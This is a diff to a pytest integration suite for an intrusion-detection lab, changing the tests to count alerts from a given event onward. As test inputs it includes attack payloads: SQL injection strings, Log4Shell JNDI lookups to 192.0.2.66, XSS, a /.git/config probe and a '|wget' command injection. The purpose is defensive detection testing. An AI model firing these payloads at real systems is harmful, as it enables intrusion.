@@ -28,7 +28,12 @@ from sekisho_wire.policy import IntrusionPrevention, write_policy
 from .centre import Centre, make_site, server_context
 from .conftest import wait_until, why_no_lab
 
-pytestmark = [pytest.mark.root, pytest.mark.skipif(bool(why_no_lab()), reason=why_no_lab() or "-")]
+pytestmark = [
+    pytest.mark.root,
+    pytest.mark.skipif(bool(why_no_lab()), reason=why_no_lab() or "-"),
+    # One worker has the lab: two at once would only slow each other down.
+    pytest.mark.xdist_group("lab"),
+]
 
 
 @dataclass
@@ -63,8 +68,12 @@ class Utm:
     def events(self) -> list[dict]:
         return [json.loads(line) for line in (self.state / "log" / "eve.json").read_bytes().splitlines()]
 
-    def sids(self) -> set[int]:
-        return {event["alert"]["signature_id"] for event in self.events() if event["event_type"] == "alert"}
+    def alerts(self, since: int = 0) -> list[dict]:
+        """Alerts among the events from number ``since`` on."""
+        return [event for event in self.events()[since:] if event["event_type"] == "alert"]
+
+    def sids(self, since: int = 0) -> set[int]:
+        return {event["alert"]["signature_id"] for event in self.alerts(since)}
 
 
 @pytest.fixture(scope="module")
@@ -100,7 +109,7 @@ async def _hang_up(centre: Centre) -> None:
 
 
 def reaches(lab: Lab, host: str, address: str, port: int) -> bool:
-    probe = "import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 2).close()"
+    probe = "import socket,sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 1).close()"
     return lab.run(host, [sys.executable, "-I", "-S", "-c", probe, address, str(port)]).returncode == 0
 
 
@@ -135,22 +144,27 @@ def test_the_sensor_is_inline_with_all_our_signatures(utm: Utm):
 
 
 def test_ordinary_life_raises_no_alert(utm: Utm):
+    since = len(utm.events())
     codes = [step.code for step in story.ordinary(utm.lab)]
     assert codes == ["ordinary.news", "ordinary.sns", "ordinary.mail", "ordinary.customer"]
-    wait_until(lambda: any(event["event_type"] == "smtp" for event in utm.events()))
-    assert utm.sids() == set()
+    wait_until(lambda: any(event["event_type"] == "smtp" for event in utm.events()[since:]))
+    assert utm.sids(since) == set()
 
 
 def test_the_attack_is_seen_from_scan_to_beacon_and_reaches_the_centre_in_time(utm: Utm):
+    since, known = len(utm.events()), len(utm.centre.lines())
     steps = list(story.attack(utm.lab))
     assert steps[0].at is not None and steps[0].at.tzinfo is not None
-    wait_until(lambda: {9000002, 9000020, 9000040, 9000050} <= utm.sids())
-    wait_until(lambda: any(b"9000040" in line for line in utm.centre.lines()))
+    wait_until(lambda: any(b'"signature_id":9000040' in line for line in utm.centre.lines()[known:]))
+    assert utm.sids(since) >= {9000020, 9000040, 9000050}
     assert time.time() - steps[0].at.timestamp() < 5.0
 
 
 def test_an_alert_carries_what_an_analyst_asks_for(utm: Utm):
-    alert = next(e for e in utm.events() if e["event_type"] == "alert" and e["alert"]["signature_id"] == 9000040)
+    since = len(utm.events())
+    story.visit(utm.lab, "attacker", site.WAN_ADDRESS, [story.INJECTED_ID])
+    wait_until(lambda: 9000040 in utm.sids(since))
+    alert = next(alert for alert in utm.alerts(since) if alert["alert"]["signature_id"] == 9000040)
     assert alert["src_ip"] == site.SERVER_ADDRESS
     assert alert["alert"]["metadata"]["sekisho_success"] == ["true"]
     assert alert["alert"]["metadata"]["mitre_technique_id"] == ["T1059.004"]
@@ -168,20 +182,22 @@ def test_an_alert_carries_what_an_analyst_asks_for(utm: Utm):
         (9000027, "attacker", site.WAN_ADDRESS, "/items?id=1%27%20or%20%271%27=%271"),
         (9000028, "attacker", site.WAN_ADDRESS, "/items?id=SLEEP(5)"),
         (9000030, "attacker", site.WAN_ADDRESS, "/?q=${jndi:ldap://192.0.2.66/a}"),
-        (9000033, "attacker", site.WAN_ADDRESS, "/.git/config"),
+        (9000033, "sns", site.WAN_ADDRESS, "/.git/config"),
         (9000034, "attacker", site.WAN_ADDRESS, "/?q=%3Cscript%3Ealert(1)"),
         (9000070, "pc1", "cdn.badhost.example", "/invoice.com"),
         (9000061, "pc1", "cdn.badhost.example", "/"),
     ],
 )
 def test_a_malicious_request_is_named(sid: int, host: str, server: str, path: str, utm: Utm):
+    since = len(utm.events())
     story.visit(utm.lab, host, server, [path])
-    wait_until(lambda: sid in utm.sids())
+    wait_until(lambda: sid in utm.sids(since))
 
 
 def test_log4shell_in_a_header_is_named(utm: Utm):
+    since = len(utm.events())
     story.visit(utm.lab, "attacker", site.WAN_ADDRESS, ["/"], agent="${jndi:ldap://192.0.2.66/a}")
-    wait_until(lambda: 9000029 in utm.sids())
+    wait_until(lambda: 9000029 in utm.sids(since))
 
 
 def test_the_line_stays_alive_while_a_killed_sensor_comes_back(utm: Utm):
@@ -191,8 +207,9 @@ def test_the_line_stays_alive_while_a_killed_sensor_comes_back(utm: Utm):
     while (utm.inspects() or {"sensor": before})["sensor"]["pid"] == before["pid"]:
         assert "200 /" in story.visit(utm.lab, "pc1", "198.51.100.10", ["/"])
     assert utm.inspects()["sensor"]["starts"] == before["starts"] + 1
+    since = len(utm.events())
     story.visit(utm.lab, "attacker", site.WAN_ADDRESS, ["/?x=1%7Cwget%20y"])
-    wait_until(lambda: utm.sids())
+    wait_until(lambda: 9000021 in utm.sids(since))
 
 
 def test_a_sensor_that_hangs_is_ended_and_replaced(utm: Utm):
